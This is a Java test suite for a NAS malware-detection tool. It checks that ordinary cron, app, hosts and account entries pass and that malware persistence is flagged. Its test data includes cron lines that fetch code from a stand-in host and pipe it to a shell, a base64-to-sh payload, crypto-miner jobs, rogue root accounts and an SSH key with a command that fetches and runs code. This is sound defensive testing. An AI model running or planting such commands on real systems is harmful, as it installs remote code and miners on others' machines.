package app.lotse.diagnosis;

import static org.assertj.core.api.Assertions.assertThat;

import app.lotse.model.Evidence;
import app.lotse.model.Finding;
import app.lotse.model.Finding.Outcome;
import app.lotse.model.Level;
import app.lotse.model.Missing;
import app.lotse.model.Reading;
import app.lotse.model.Reading.Reason;
import app.lotse.model.Snapshot;
import app.lotse.model.StartPlace;
import app.lotse.model.Variant;
import app.lotse.model.Verdict;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What is usual in a place from which programs start raises nothing, what malware leaves there does, and what could not be read is never good. */
class StartPlacesTest {
    private static final Diagnosis DIAGNOSIS = Diagnosis.withShippedKnowledge();

    private static Snapshot with(Map<StartPlace, Reading<List<String>>> places) {
        Snapshot s = Snapshots.quiet().build();
        return Variant.of(s).startPlaces(places).snapshot();
    }

    private static Verdict judge(StartPlace place, String... lines) {
        return DIAGNOSIS.judge(with(Map.of(place, Reading.known(List.of(lines)))));
    }

    private static List<Finding> of(Verdict verdict, String check) {
        return verdict.findings().stream().filter(f -> f.check().equals(check)).toList();
    }

    private static List<String> values(Finding finding, String key) {
        return finding.evidence().stream()
                .filter(e -> e.key().equals(key))
                .map(Evidence::value)
                .toList();
    }

    /** In the shape of published timetables of QNAP devices, and what their owners add. */
    static Stream<String> usualJobs() {
        return Stream.of("""
                # m h dom m dow cmd
                9 9,21 * * * /sbin/notify_update --nc 1>/dev/null 2>&1
                0 3 * * 0 /etc/init.d/idmap.sh dump
                0-59/20 3 * * * /sbin/adjust_time
                0 1 * * * /etc/init.d/flush_memory.sh >/dev/null 2>&1
                0 4 * * * /sbin/hwclock -s
                0 3 * * * /sbin/clean_reset_pwd
                0-59/15 * * * * /etc/init.d/nss2_dusg.sh
                10 15 * * * /usr/bin/power_clean -c 2>/dev/null
                #0 2 * * * /sbin/qfstrim
                */10 * * * * /sbin/config_cache_util 0
                55 6 * * * /share/CACHEDEV1_DATA/.qpkg/HybridBackup/rr2/scripts/insight/insight.sh -runall >/dev/null 2>&1
                00 03 * * * sh /share/CACHEDEV1_DATA/.qpkg/MalwareRemover/MalwareRemover.sh scan;#_QSC_:MalwareRemover:malware_remover_schedule:None:d::
                9 2 * * * /bin/sh /etc/init.d/disk_data_collection.sh
                0 8 * * 1 /etc/init.d/poweroff
                * * * * * /var/cache/netmgr/lock_timer.sh
                0 12 * * * /mnt/ext/opt/LicenseCenter/bin/qlicense_tool local_check
                0 4 * * * (source /etc/init.d/qulog.sh dummy; check_mariadb) >/dev/null 2>&1
                4 3 * * 3 /etc/init.d/backup_conf.sh
                * 4 * * * /usr/sbin/logrotate /etc/config/mc_logr.conf
                45 0 */1 * * /etc/init.d/antivirus.sh update_db
                0 0 * * 0 /sbin/storage_util --data_scrubbing raid_id=-1 >/dev/null 2>&1
                2 10,16 * * * /share/homes/admin/scripts/cron_exec_local.sh 1>/dev/null 2>&1
                30 2 * * * /share/homes/anna/.acme.sh/acme.sh --cron --home "/share/homes/anna/.acme.sh" > /dev/null
                0 5 * * * rsync -a /share/Photos /share/external/copy > /tmp/rsync.log 2>&1
                0 6 * * * find /tmp -name '*.tmp' -mtime +7 -exec rm -f {} \\;
                0 6 * * * rm -rf /tmp/photos-cache
                */5 * * * * curl -fsS https://hc-ping.example/abc > /dev/null
                */15 * * * * wget -q -O - http://127.0.0.1/nextcloud/cron.php > /dev/null
                15 1 * * * curl -s http://10.0.0.2/state | python3 -m json.tool > /share/Public/state.json
                0 2 * * * flock -n /tmp/backup.lock /share/scripts/backup.sh
                0 2 * * * cd /share/Photos && ./tidy.sh
                0 7 * * * [ -f /tmp/marker ] && /share/scripts/marker.sh
                0 7 * * * nice -n 19 php /share/Web/gallery/cron.php
                @reboot /share/scripts/mount.sh
                PATH=/bin:/sbin
                15 4 * * * echo "0 3 * * * /tmp/x" > /share/Public/help.txt
                """.split("\n")).filter(line -> !line.isBlank());
    }

    @ParameterizedTest
    @MethodSource("usualJobs")
    void a_usual_or_merely_unknown_job_raises_nothing(String line) {
        for (StartPlace place : List.of(StartPlace.CRONTAB, StartPlace.LIVE_CRONTAB)) {
            assertThat(judge(place, line).level()).as(line).isEqualTo(Level.NOTHING_FOUND);
        }
    }

    @ParameterizedTest
    @CsvSource(delimiter = '~', textBlock = """
            */5 * * * * /tmp/.x/miner                                                               ~ temporary ~ UNSURE
            */5 * * * * sh /tmp/run.sh >/dev/null 2>&1                                              ~ temporary ~ UNSURE
            */5 * * * * nohup /dev/shm/kw >/dev/null 2>&1 &                                         ~ temporary ~ UNSURE
            */5 * * * * cd /tmp && ./x                                                              ~ temporary ~ UNSURE
            */5 * * * * cd /var/tmp; sh x.sh                                                        ~ temporary ~ UNSURE
            */5 * * * * nice -n 19 ionice -c 3 /tmp/x                                               ~ temporary ~ UNSURE
            */5 * * * * A=1 env B=2 /tmp/x                                                          ~ temporary ~ UNSURE
            */5 * * * * sh -c "sleep 5; /tmp/x"                                                     ~ temporary ~ UNSURE
            */5 * * * * flock -n /tmp/l /dev/shm/x                                                  ~ temporary ~ UNSURE
            */5 * * * * if true; then /tmp/x; fi                                                    ~ temporary ~ UNSURE
            */5 * * * * /share/../tmp//x                                                            ~ temporary ~ UNSURE
            */5 * * * * "/tmp/a b/x" -q                                                             ~ temporary ~ UNSURE
            */5 * * * * . /tmp/env                                                                  ~ temporary ~ UNSURE
            */5 * * * * test -x /tmp/x && /tmp/x                                                    ~ temporary ~ UNSURE
            */5 * * * * /bin/busybox sh /tmp/x                                                      ~ temporary ~ UNSURE
            @reboot /tmp/x                                                                          ~ temporary ~ UNSURE
            7 1 * * * /share/CACHEDEV1_DATA/.sys/update                                             ~ hidden ~ UNSURE
            7 1 * * * /share/Public/.x.sh                                                           ~ hidden ~ UNSURE
            7 1 * * * /share/CACHEDEV1_DATA/.qpkg/.cache/x                                          ~ hidden ~ UNSURE
            7 1 * * * /share/CACHEDEV1_DATA/.qpkg/HybridBackup/.x/y                                 ~ hidden ~ UNSURE
            7 1 * * * python3 /share/homes/admin/.run/a.py                                          ~ hidden ~ UNSURE
            */15 * * * * (curl -fsSL http://a.example/x||wget -q -O- http://a.example/x)|sh         ~ fetched ~ UNSURE
            */15 * * * * wget -qO - http://a.example/x | bash -s -- -q                              ~ fetched ~ UNSURE
            */15 * * * * curl -s http://a.example/x.py | python -                                   ~ fetched ~ UNSURE
            */15 * * * * sh -c "$(curl -fsSL http://a.example/x)"                                   ~ fetched ~ UNSURE
            */15 * * * * bash <(curl -s http://a.example/x)                                         ~ fetched ~ UNSURE
            */15 * * * * eval `wget -q -O - http://a.example/x`                                     ~ fetched ~ UNSURE
            */15 * * * * echo ZWNobw== | base64 -d | sh                                             ~ fetched ~ UNSURE
            */15 * * * * wget -O /share/Public/a.sh http://a.example/a && sh /share/Public/a.sh     ~ fetched ~ UNSURE
            */15 * * * * sh -c 'curl -s http://a.example/x | sh'                                    ~ fetched ~ UNSURE
            0 4 * * * /usr/local/bin/xmrig -o pool.example:3333                                     ~ mining ~ UNSURE
            0 4 * * * /share/Public/sys -o stratum+tcp://pool.example:3333                          ~ mining ~ UNSURE
            0 4 * * * /share/Public/dovecat                                                         ~ known ~ BAD
            0 4 * * * nohup kdevtmpfsi                                                              ~ known ~ BAD
            7 9,17,1 * * * /share/CACHEDEV1_DATA/.qpkg/.liveupdate/liveupdate.sh >/dev/null 2>/dev/null ~ known ~ BAD
            7 9 * * * /share/MD0_DATA/.qpkg/.config/backup_conf.sh                                  ~ known ~ BAD
            """)
    void a_job_that_malware_would_have_is_found(String line, String reason, Outcome outcome) {
        Verdict verdict = judge(StartPlace.CRONTAB, "0 4 * * * /sbin/hwclock -s", line.strip());

        assertThat(verdict.level()).isEqualTo(Level.UNCLEAR);
        assertThat(of(verdict, "start-jobs")).singleElement().satisfies(finding -> {
            assertThat(finding.outcome()).isEqualTo(outcome);
            assertThat(values(finding, "reason")).contains(reason);
            assertThat(values(finding, "start-place")).containsExactly("saved-timetable");
            assertThat(values(finding, "line")).hasSize(1);
        });
    }

    @Test
    void a_job_only_in_the_timetable_in_use_is_told_as_such_and_one_in_both_is_told_once() {
        String odd = "* * * * * /tmp/x";
        var both = DIAGNOSIS.judge(with(Map.of(
                StartPlace.CRONTAB, Reading.known(List.of("0 4 * * *  /sbin/hwclock -s", "*  * * * * /tmp/x")),
                StartPlace.LIVE_CRONTAB, Reading.known(List.of(odd)))));
        var live = DIAGNOSIS.judge(with(Map.of(
                StartPlace.CRONTAB, Reading.known(List.of("0 4 * * * /sbin/hwclock -s")),
                StartPlace.LIVE_CRONTAB, Reading.known(List.of(odd)))));

        assertThat(of(both, "start-jobs")).hasSize(1);
        assertThat(values(of(both, "start-jobs").getFirst(), "only-until-restart"))
                .isEmpty();
        assertThat(values(of(live, "start-jobs").getFirst(), "start-place")).containsExactly("timetable-in-use");
        assertThat(values(of(live, "start-jobs").getFirst(), "only-until-restart"))
                .containsExactly("yes");
    }

    @Test
    void passwords_of_a_job_do_not_get_into_the_evidence() {
        var verdict = judge(
                StartPlace.CRONTAB,
                "* * * * * curl -u anna:secret1 http://bob:secret2@a.example/?password=secret3 | sh");

        assertThat(of(verdict, "start-jobs").toString()).contains("***").doesNotContain("secret");
    }

    @ParameterizedTest
    @CsvSource({
        "/share/CACHEDEV1_DATA/.qpkg/PlexMediaServer, /share/CACHEDEV1_DATA/.qpkg/PlexMediaServer/plex.sh, TRUE",
        "/share/MD0_DATA/.qpkg/Optware, /etc/init.d/optware.sh, TRUE",
        "/mnt/ext/opt/helpdesk, /etc/init.d/helpdesk.sh, TRUE",
        "/share/Web/phpMyAdmin, '', TRUE",
        "'', '', FALSE",
        "/share/CACHEDEV1_DATA/.qpkg/Old, /tmp/old.sh, FALSE"
    })
    void a_usual_app_raises_nothing(String folder, String shell, String enabled) {
        Verdict verdict = judge(
                StartPlace.APPS,
                "[App]",
                "Name = App",
                "Install_Path = " + folder,
                "Shell = " + shell,
                "Enable = " + enabled,
                "no key here",
                "= no key");

        assertThat(verdict.level()).isEqualTo(Level.NOTHING_FOUND);
        assertThat(of(verdict, "start-apps")).extracting(Finding::outcome).containsExactly(Outcome.GOOD);
    }

    @ParameterizedTest
    @CsvSource({
        "/share/CACHEDEV1_DATA/.qpkg/.update, /share/CACHEDEV1_DATA/.qpkg/.update/a.sh, hidden, UNSURE",
        "/share/CACHEDEV1_DATA/.sys/a, '', hidden, UNSURE",
        "/share/CACHEDEV1_DATA/.qpkg/App, /tmp/a.sh, temporary, UNSURE",
        "/dev/shm/a, '', temporary, UNSURE",
        "/share/CACHEDEV1_DATA/.qpkg/App, /share/CACHEDEV1_DATA/.qpkg/.liveupdate/liveupdate.sh, known, BAD"
    })
    void an_app_that_starts_where_malware_hides_is_found(String folder, String shell, String reason, Outcome outcome) {
        Verdict verdict = judge(StartPlace.APPS, "[App]", "Install_Path=" + folder, "Shell=" + shell, "Enable=TRUE");

        assertThat(verdict.level()).isEqualTo(Level.UNCLEAR);
        assertThat(of(verdict, "start-apps")).singleElement().satisfies(finding -> {
            assertThat(finding.outcome()).isEqualTo(outcome);
            assertThat(values(finding, "reason")).containsExactly(reason);
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "127.0.0.1 localhost localhost.localdomain",
                "::1 localhost6",
                "192.168.1.20 NAS NAS.local",
                "# 0.0.0.0 update.qnap.com",
                "0.0.0.0 ads.example.com tracker.example.net",
                "127.0.0.1 anna.myqnapcloud.com",
                "203.0.113.7 update.qnap.com",
                "update.qnap.com",
                "127.0.0.1 update.qnap.com.example",
                ""
            })
    void usual_lines_of_the_hosts_file_raise_nothing(String line) {
        assertThat(judge(StartPlace.HOSTS, line).level()).isEqualTo(Level.NOTHING_FOUND);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "0.0.0.0 update.qnap.com",
                "127.0.0.1\tlocalhost download.qnap.com",
                "  0.0.0.0   db.de.clamav.net # x",
                "::1 Database.ClamAV.net.",
                "127.0.0.53 current.cvd.clamav.net",
                "0 update.nai.com"
            })
    void updates_led_nowhere_are_found(String line) {
        Verdict verdict = judge(StartPlace.HOSTS, "127.0.0.1 localhost", line);

        assertThat(verdict.level()).isEqualTo(Level.UNCLEAR);
        assertThat(of(verdict, "blocked-updates"))
                .singleElement()
                .satisfies(f -> assertThat(f.outcome()).isEqualTo(Outcome.BAD));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '~', textBlock = """
            PRELOAD         ~ preloaded-library ~ ''                                                         ~ GOOD   ~ NOTHING_FOUND
            PRELOAD         ~ preloaded-library ~ # none                                                     ~ GOOD   ~ NOTHING_FOUND
            PRELOAD         ~ preloaded-library ~ /lib/libfoo.so                                             ~ UNSURE ~ UNCLEAR
            PRELOAD         ~ preloaded-library ~ /tmp/a.so:/tmp/b.so                                        ~ UNSURE ~ UNCLEAR
            AUTHORIZED_KEYS ~ sign-in-keys      ~ ssh-ed25519 anna@laptop SHA256:abc                         ~ GOOD   ~ NOTHING_FOUND
            AUTHORIZED_KEYS ~ sign-in-keys      ~ ''                                                         ~ GOOD   ~ NOTHING_FOUND
            AUTHORIZED_KEYS ~ sign-in-keys      ~ command="/share/scripts/rrsync /share/Photos" ssh-rsa b x  ~ GOOD   ~ NOTHING_FOUND
            AUTHORIZED_KEYS ~ sign-in-keys      ~ command="curl http://a.example|sh" ssh-rsa b x             ~ UNSURE ~ UNCLEAR
            AUTHORIZED_KEYS ~ sign-in-keys      ~ command="/tmp/x" ssh-rsa b x                               ~ UNSURE ~ UNCLEAR
            AUTHORIZED_KEYS ~ sign-in-keys      ~ ssh-rsa mdrfckr SHA256:abc                                 ~ BAD    ~ UNCLEAR
            ACCOUNTS        ~ administrators    ~ admin:x:0:0:administrator:/share/homes/admin:/bin/sh       ~ GOOD   ~ NOTHING_FOUND
            ACCOUNTS        ~ administrators    ~ anna:x:500:100:Linux User,,,:/share/homes/anna:/bin/sh     ~ GOOD   ~ NOTHING_FOUND
            ACCOUNTS        ~ administrators    ~ nonsense                                                   ~ GOOD   ~ NOTHING_FOUND
            ACCOUNTS        ~ administrators    ~ sys:x:0:0::/tmp:/bin/sh                                    ~ UNSURE ~ UNCLEAR
            ACCOUNTS        ~ administrators    ~ helper::00:100::/:/bin/sh                                  ~ UNSURE ~ UNCLEAR
            AUTORUN         ~ own-start-script  ~ FALSE                                                      ~ GOOD   ~ NOTHING_FOUND
            AUTORUN         ~ own-start-script  ~ TRUE                                                       ~ UNSURE ~ NOTHING_FOUND
            AUTORUN         ~ own-start-script  ~ true                                                       ~ UNSURE ~ NOTHING_FOUND
            """)
    void other_places(StartPlace place, String check, String line, Outcome outcome, Level level) {
        Verdict verdict = judge(place, line);

        assertThat(of(verdict, check)).extracting(Finding::outcome).containsExactly(outcome);
        assertThat(verdict.level()).isEqualTo(level);
    }

    @Test
    void administrators_are_named_and_not_accused() {
        var verdict = DIAGNOSIS.judge(with(Map.of(
                StartPlace.ACCOUNTS, Reading.known(List.of("admin:x:0:0::/:/bin/sh")),
                StartPlace.GROUPS,
                        Reading.known(List.of("administrators:x:0:admin, anna,ben", "everyone:x:100:admin")))));

        assertThat(verdict.level()).isEqualTo(Level.NOTHING_FOUND);
        Finding finding = of(verdict, "administrators").getFirst();
        assertThat(values(finding, "administrators")).containsExactly("3");
        assertThat(values(finding, "administrator")).containsExactly("admin", "anna", "ben");
    }

    @Test
    void a_start_script_that_was_set_to_nothing_known_says_nothing() {
        assertThat(of(judge(StartPlace.AUTORUN, ""), "own-start-script")).isEmpty();
        assertThat(of(judge(StartPlace.AUTORUN, "maybe"), "own-start-script")).isEmpty();
    }

    @ParameterizedTest
    @EnumSource(StartPlace.class)
    void a_place_that_was_not_read_is_neither_good_nor_bad(StartPlace place) {
        List<String> before = ids(DIAGNOSIS.judge(with(Map.of())));
        for (Reason reason : Reason.values()) {
            var verdict = DIAGNOSIS.judge(with(Map.of(place, Reading.unread(reason, "x"))));

            assertThat(ids(verdict)).isEqualTo(before);
            assertThat(verdict.level()).isEqualTo(Level.NOTHING_FOUND);
            boolean said = reason != Reason.NOT_THERE && reason != Reason.NOT_ASKED;
            assertThat(verdict.missing())
                    .extracting(Missing::what)
                    .isEqualTo(said ? List.of("start-places") : List.of());
        }
    }

    private static List<String> ids(Verdict verdict) {
        return verdict.findings().stream().map(f -> f.check() + f.outcome()).toList();
    }

    @Test
    void only_the_timetable_in_use_is_not_enough_for_a_good_word() {
        assertThat(of(judge(StartPlace.LIVE_CRONTAB, "0 4 * * * /sbin/hwclock -s"), "start-jobs"))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "* * * * * \"",
                "* * * * * '\\",
                "* * * * * ((((((((((((((((((((((",
                "* * * * * ;;;&&&|||><><2>&1",
                "* * * * * sh -c sh -c sh -c 'sh -c \"sh -c x\"'",
                "* * * * * \u0000\u202e\ud800",
                "[",
                "[]",
                "]",
                "=",
                ":::::",
                "0.0.0.0",
                "command=\"",
                "* * * * * >",
                "* * * * * a <(",
                "* * * * * nice -n",
                "* * * * * flock",
                "* * * * * cd",
                "* * * * * ."
            })
    void hostile_lines_are_survived_in_each_place(String line) {
        for (StartPlace place : StartPlace.values()) {
            assertThat(judge(place, line, line.repeat(300), "").level()).isNotNull();
        }
    }

    @Test
    void any_text_of_any_size_is_survived_and_its_findings_stay_few() {
        var random = new Random(3);
        String signs = " \t'\"\\;&|()<>{}`$#=:/.*-@,[]\u0000\u202eaxä0/tmp/sh curl";
        for (int round = 0; round < 300; round++) {
            var lines = Stream.generate(() -> "* * * * * " + text(random, signs))
                    .limit(random.nextInt(12))
                    .toList();
            Map<StartPlace, Reading<List<String>>> places = new HashMap<>();
            Arrays.stream(StartPlace.values()).forEach(p -> places.put(p, Reading.known(lines)));
            assertThat(DIAGNOSIS.judge(with(places)).level()).isNotNull();
        }
        var many = Reading.known(Stream.iterate(1, i -> i + 1)
                .limit(20_000)
                .map(i -> "* * * * * /tmp/x" + i)
                .toList());

        assertThat(of(DIAGNOSIS.judge(with(Map.of(StartPlace.CRONTAB, many))), "start-jobs"))
                .hasSizeLessThanOrEqualTo(10);
    }

    private static String text(Random random, String signs) {
        return random.ints(random.nextInt(120), 0, signs.length())
                .collect(StringBuilder::new, (b, i) -> b.append(signs.charAt(i)), StringBuilder::append)
                .toString();
    }

    @Test
    void with_a_miner_the_places_say_why_it_may_come_back() {
        Snapshot miner = Snapshots.quiet()
                .with(Program.user("[oom_reaper]")
                        .title("[oom_reaper]")
                        .file("/tmp/x")
                        .uses(50))
                .build();
        var verdict = DIAGNOSIS.judge(new Snapshot(
                miner.takenAt(),
                miner.kernel(),
                miner.model(),
                miner.firmware(),
                miner.build(),
                miner.uptimeSeconds(),
                miner.bootId(),
                miner.load(),
                miner.asRoot(),
                miner.samples(),
                miner.details(),
                miner.shareTops(),
                Map.of(
                        StartPlace.CRONTAB, Reading.known(List.of("* * * * * /tmp/x")),
                        StartPlace.AUTORUN, Reading.known(List.of("TRUE"))),
                miner.suspects()));

        assertThat(verdict.level()).isEqualTo(Level.MINER);
        assertThat(ComingBack.from(verdict)).containsExactly("start-jobs", "own-start-script");
    }
}
